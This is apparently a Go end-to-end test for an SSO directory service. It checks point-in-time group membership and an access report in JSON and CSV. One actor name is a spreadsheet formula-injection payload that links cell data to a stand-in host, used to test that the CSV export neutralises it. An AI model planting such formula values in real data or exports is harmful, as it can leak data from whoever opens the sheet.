package e2e

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"

	"github.com/ssodir/ssodir/internal/auth/authtest"
	"github.com/ssodir/ssodir/internal/dynamo"
	"github.com/ssodir/ssodir/test/apitest"
)

// window is when a step ran: its change's instant lies in [from, to] (the test's clock
// before the request and after the answer; the services share the machine's clock).
type window struct{ from, to time.Time }

func (w window) holds(t time.Time) bool {
	return !t.Before(w.from.Truncate(time.Millisecond)) && !t.After(w.to)
}

// reportRow is a row of the JSON access report (docs/history.md).
type reportRow struct {
	Group     string     `json:"group"`
	GroupID   string     `json:"group_id"`
	Username  string     `json:"username"`
	UserID    string     `json:"user_id"`
	Erased    bool       `json:"erased"`
	AddedAt   time.Time  `json:"added_at"`
	AddedBy   string     `json:"added_by"`
	RemovedAt *time.Time `json:"removed_at"`
	RemovedBy string     `json:"removed_by"`
	ExpiresAt *time.Time `json:"expires_at"`
}

// TestAccessHistoryEndToEnd builds a group's history with known instants through the real
// services on DynamoDB Local — adds (one by an actor whose name starts with "="), a
// removal, a bulk change, a rename, a user's delete and re-creation, and an expiry that
// comes while every process is down — and reads it back: the members at an instant
// between each two steps (GET /groups/{name}/members?as_of=), and the access report over
// the whole range in JSON (exact) and CSV (the formula-like actor neutralised).
func TestAccessHistoryEndToEnd(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	iss := authtest.NewIssuer(t)
	oidc := []string{"SSO_OIDC_ISSUER=" + iss.URL, "SSO_OIDC_AUDIENCE=" + authtest.Audience}
	api := e.start("command-api", oidc...)
	proj := e.start("projector")
	q := e.start("query-api", oidc...)
	path := provision(t, api, "acc", "t1")
	cmd := func() string { return "http://" + api.addr + path }
	read := func() string { return "http://" + q.addr + path }

	// The actor of one change is a person whose subject a spreadsheet would run.
	const evil = `=HYPERLINK("http://x.example/?"&A1,"ok")`
	evilToken := iss.Token(t, map[string]any{"sub": evil, "scope": "directory:write directory:read", "sso_tenants": []string{"*"}})

	// step runs f between two readings of the clock, a few milliseconds clear of the steps
	// around it, so that an instant between two steps lies strictly between their changes.
	step := func(f func()) window {
		time.Sleep(5 * time.Millisecond)
		w := window{from: time.Now()}
		f()
		w.to = time.Now()
		time.Sleep(5 * time.Millisecond)
		return w
	}
	newUser := func(name string) string {
		r := call(t, "POST", cmd()+"/users", map[string]any{"username": name, "email": name + "@example.com"})
		mustStatus(t, r, 201)
		var u struct {
			ID string `json:"id"`
		}
		r.json(t, &u)
		return u.ID
	}
	put := func(user string, body any) {
		mustStatus(t, call(t, "PUT", cmd()+"/groups/ops/members/"+user, body), 204)
	}

	begin := time.Now()
	ids := map[string]string{}
	var gid string
	step(func() {
		for _, u := range []string{"ann", "bob", "cat", "dan"} {
			ids[u] = newUser(u)
		}
		r := call(t, "POST", cmd()+"/groups", map[string]any{"name": "ops"})
		mustStatus(t, r, 201)
		var g struct {
			ID string `json:"id"`
		}
		r.json(t, &g)
		gid = g.ID
	})
	wAnn := step(func() { put("ann", nil) })
	wBob := step(func() {
		status, _, body := apitest.Call(t, evilToken, "PUT", cmd()+"/groups/ops/members/bob", nil)
		if status != 204 {
			t.Fatalf("add bob as %q: %d %s", evil, status, body)
		}
	})
	wBobOut := step(func() { mustStatus(t, call(t, "DELETE", cmd()+"/groups/ops/members/bob", nil), 204) })
	wBulk := step(func() {
		mustStatus(t, call(t, "POST", cmd()+"/groups/ops/members", map[string]any{"add": []string{"dan", "bob"}, "remove": []string{"ann"}}), 200)
	})
	wRename := step(func() {
		mustStatus(t, call(t, "POST", cmd()+"/users/dan/rename", map[string]any{"username": "dave"}), 200)
	})
	wBobDel := step(func() { mustStatus(t, call(t, "DELETE", cmd()+"/users/bob", nil), 204) })
	bob1 := ids["bob"]
	var bob2 string
	wBobAgain := step(func() {
		bob2 = newUser("bob")
		put("bob", nil)
	})

	// The outage: the expiry scheduler runs in the projector, which stops (with the query
	// API) before the expiring membership is even set; the command API stops right after
	// setting it, a few seconds before the instant.
	proj.stop(t)
	q.stop(t)
	var expires time.Time
	wCat := step(func() {
		expires = time.Now().Add(3 * time.Second).UTC().Truncate(time.Millisecond)
		put("cat", map[string]any{"expires_at": expires.Format(time.RFC3339Nano)})
	})
	api.stop(t)
	for time.Now().Before(expires.Add(time.Second)) {
		time.Sleep(100 * time.Millisecond)
	}
	// The scheduler's lease (2 min from the last sweep of the stopped projector) keeps a
	// new process out until it runs out: the test ages it as the minutes would, so that
	// the outage need not last them.
	ageExpiryLease(t, e)
	restarted := time.Now()
	api = e.start("command-api", oidc...)
	e.start("projector")
	q = e.start("query-api", oidc...)

	// The removal is seen once the expiry's activity item is there (the projector writes it
	// from the removal's record); an absent member alone could be one whose addition the
	// restarted projector has not reached yet.
	var r response
	var act page[map[string]any]
	eventually(t, 90*time.Second, "the expired member's removal after the outage", func() (bool, string) {
		r = call(t, "GET", read()+"/activity?actor="+url.QueryEscape("system:expiry"), nil)
		if r.status != 200 {
			return false, fmt.Sprintf("%d %s", r.status, r.body)
		}
		r.json(t, &act)
		return len(act.Items) > 0, string(r.body)
	})
	gone := time.Now()
	wExpired := window{from: expires, to: gone}
	if !restarted.After(expires) {
		t.Fatalf("the services restarted at %s, before the expiry %s", restarted, expires)
	}

	// Members at an instant between each two steps, by the names held then. The index is
	// written after the current view (internal/projector), so the answers are awaited.
	at := func(w window) time.Time { return w.to.Add(2 * time.Millisecond) }
	cases := []struct {
		what string
		at   time.Time
		want []string // username/user id
	}{
		{"after ann's add", at(wAnn), []string{"ann/" + ids["ann"]}},
		{"after bob's add", at(wBob), []string{"ann/" + ids["ann"], "bob/" + bob1}},
		{"after bob's removal", at(wBobOut), []string{"ann/" + ids["ann"]}},
		{"after the bulk change", at(wBulk), []string{"bob/" + bob1, "dan/" + ids["dan"]}},
		{"after the rename", at(wRename), []string{"bob/" + bob1, "dave/" + ids["dan"]}},
		{"after bob's delete", at(wBobDel), []string{"dave/" + ids["dan"]}},
		{"after bob's re-creation", at(wBobAgain), []string{"bob/" + bob2, "dave/" + ids["dan"]}},
		{"after cat's expiring add", at(wCat), []string{"bob/" + bob2, "cat/" + ids["cat"], "dave/" + ids["dan"]}},
		{"before the expiry", expires.Add(-time.Millisecond), []string{"bob/" + bob2, "cat/" + ids["cat"], "dave/" + ids["dan"]}},
		{"after the expiry", at(wExpired), []string{"bob/" + bob2, "dave/" + ids["dan"]}},
	}
	eventually(t, 30*time.Second, "the members at each instant", func() (bool, string) {
		var bad []string
		for _, c := range cases {
			got := []string{}
			var p page[struct {
				UserID   string `json:"user_id"`
				Username string `json:"username"`
			}]
			r := call(t, "GET", read()+"/groups/ops/members?limit=500&as_of="+url.QueryEscape(c.at.UTC().Format(time.RFC3339Nano)), nil)
			if r.status != 200 {
				t.Fatalf("members %s: %d %s", c.what, r.status, r.body)
			}
			r.json(t, &p)
			for _, m := range p.Items {
				got = append(got, m.Username+"/"+m.UserID)
			}
			slices.Sort(got)
			if !slices.Equal(got, c.want) {
				bad = append(bad, fmt.Sprintf("members %s (%s): got %v, want %v", c.what, c.at.UTC().Format(time.RFC3339Nano), got, c.want))
			}
		}
		return len(bad) == 0, strings.Join(bad, "\n")
	})

	// Exactly one removal by the expiry, as the activity of system:expiry shows.
	r = call(t, "GET", read()+"/activity?actor="+url.QueryEscape("system:expiry"), nil)
	mustStatus(t, r, 200)
	act = page[map[string]any]{}
	r.json(t, &act)
	if len(act.Items) != 1 {
		t.Errorf("the expiry's activity: want one item, got %d: %s", len(act.Items), r.body)
	}

	// The access report over the whole range.
	type want struct {
		user, id, addedBy, removedBy string
		added, removed               window // removed.to zero: still a member
		expires                      *time.Time
	}
	wants := []want{
		{"ann", ids["ann"], "bootstrap", "bootstrap", wAnn, wBulk, nil},
		{"bob", bob1, evil, "bootstrap", wBob, wBobOut, nil},
		{"bob", bob1, "bootstrap", "bootstrap", wBulk, wBobDel, nil},
		{"dan", ids["dan"], "bootstrap", "", wBulk, window{}, nil},
		{"bob", bob2, "bootstrap", "", wBobAgain, window{}, nil},
		{"cat", ids["cat"], "bootstrap", "system:expiry", wCat, wExpired, &expires},
	}
	rng := "?from=" + url.QueryEscape(begin.UTC().Format(time.RFC3339Nano)) + "&to=" + url.QueryEscape(time.Now().UTC().Format(time.RFC3339Nano))
	r = call(t, "GET", read()+"/access-report"+rng+"&format=json", nil)
	mustStatus(t, r, 200)
	var rep struct {
		Items []reportRow `json:"items"`
	}
	r.json(t, &rep)
	if len(rep.Items) != len(wants) {
		t.Errorf("the report has %d rows, want %d: %s", len(rep.Items), len(wants), r.body)
	}
	matched := make([]bool, len(rep.Items))
	for _, w := range wants {
		found := false
		for i, row := range rep.Items {
			if matched[i] || row.UserID != w.id || !w.added.holds(row.AddedAt) {
				continue
			}
			matched[i], found = true, true
			what := fmt.Sprintf("%s's interval added at %s", w.user, row.AddedAt.Format(time.RFC3339Nano))
			if row.Group != "ops" || row.GroupID != gid || row.Username != w.user || row.Erased {
				t.Errorf("%s: group %q %q, username %q, erased %v", what, row.Group, row.GroupID, row.Username, row.Erased)
			}
			if row.AddedBy != w.addedBy || row.RemovedBy != w.removedBy {
				t.Errorf("%s: added by %q, removed by %q; want %q, %q", what, row.AddedBy, row.RemovedBy, w.addedBy, w.removedBy)
			}
			switch {
			case w.removed.to.IsZero() && row.RemovedAt != nil:
				t.Errorf("%s: removed at %s, want still a member", what, row.RemovedAt)
			case !w.removed.to.IsZero() && (row.RemovedAt == nil || !w.removed.holds(*row.RemovedAt)):
				t.Errorf("%s: removed at %v, want within [%s, %s]", what, row.RemovedAt, w.removed.from, w.removed.to)
			}
			if (w.expires == nil) != (row.ExpiresAt == nil) || (w.expires != nil && !row.ExpiresAt.Equal(*w.expires)) {
				t.Errorf("%s: expires at %v, want %v", what, row.ExpiresAt, w.expires)
			}
		}
		if !found {
			t.Errorf("no report row for %s (%s) added within [%s, %s]", w.user, w.id, w.added.from, w.added.to)
		}
	}

	// The same report in CSV: the same rows, each cell the JSON's, except that the actor a
	// spreadsheet would run begins with "'".
	r = call(t, "GET", read()+"/access-report"+rng+"&format=csv", nil)
	mustStatus(t, r, 200)
	records, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil {
		t.Fatalf("read the CSV report: %v\n%s", err, r.body)
	}
	if len(records) != len(rep.Items)+1 {
		t.Fatalf("the CSV report has %d records, want a header and %d rows:\n%s", len(records), len(rep.Items), r.body)
	}
	col := map[string]int{}
	for i, h := range records[0] {
		col[h] = i
	}
	cell := func(rec []string, name string) string {
		i, ok := col[name]
		if !ok {
			t.Fatalf("the CSV report has no column %q: %v", name, records[0])
		}
		return rec[i]
	}
	tm := func(x *time.Time) string {
		if x == nil {
			return ""
		}
		return x.UTC().Format("2006-01-02T15:04:05.000Z07:00")
	}
	neutral := func(s string) string {
		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
			return "'" + s
		}
		return s
	}
	sawEvil := false
	for _, row := range rep.Items {
		key := tm(&row.AddedAt)
		var rec []string
		for _, x := range records[1:] {
			if cell(x, "user_id") == row.UserID && cell(x, "added_at") == key {
				rec = x
			}
		}
		if rec == nil {
			t.Errorf("no CSV row for %s added at %s:\n%s", row.UserID, key, r.body)
			continue
		}
		wantCells := map[string]string{"group": row.Group, "group_id": row.GroupID, "username": row.Username,
			"added_by": neutral(row.AddedBy), "removed_at": tm(row.RemovedAt), "removed_by": neutral(row.RemovedBy), "expires_at": tm(row.ExpiresAt)}
		for name, v := range wantCells {
			if got := cell(rec, name); got != v {
				t.Errorf("CSV %s of %s added at %s: %q, want %q", name, row.UserID, key, got, v)
			}
		}
		if row.AddedBy == evil {
			sawEvil = true
			if got := cell(rec, "added_by"); got != "'"+evil {
				t.Errorf("the formula-like actor in CSV: %q", got)
			}
		}
	}
	if !sawEvil {
		t.Errorf("the JSON report does not keep the actor %q exactly", evil)
	}
}

// ageExpiryLease moves the expiry scheduler's lease into the past, as the minutes of a
// longer outage would.
func ageExpiryLease(t *testing.T, e *env) {
	t.Helper()
	_, err := e.db.UpdateItem(context.Background(), &dynamodb.UpdateItemInput{
		TableName: aws.String(dynamo.Names{Prefix: e.prefix}.StreamLeases()),
		Key: map[string]types.AttributeValue{
			"consumer":  &types.AttributeValueMemberS{Value: "expiry"},
			"lease_key": &types.AttributeValueMemberS{Value: "lease"},
		},
		UpdateExpression:          aws.String("SET #u = :past"),
		ConditionExpression:       aws.String("attribute_exists(consumer)"),
		ExpressionAttributeNames:  map[string]string{"#u": "until"},
		ExpressionAttributeValues: map[string]types.AttributeValue{":past": &types.AttributeValueMemberN{Value: "0"}},
	})
	var cf *types.ConditionalCheckFailedException
	if err != nil && !errors.As(err, &cf) {
		t.Fatalf("age the expiry lease: %v", err)
	}
}
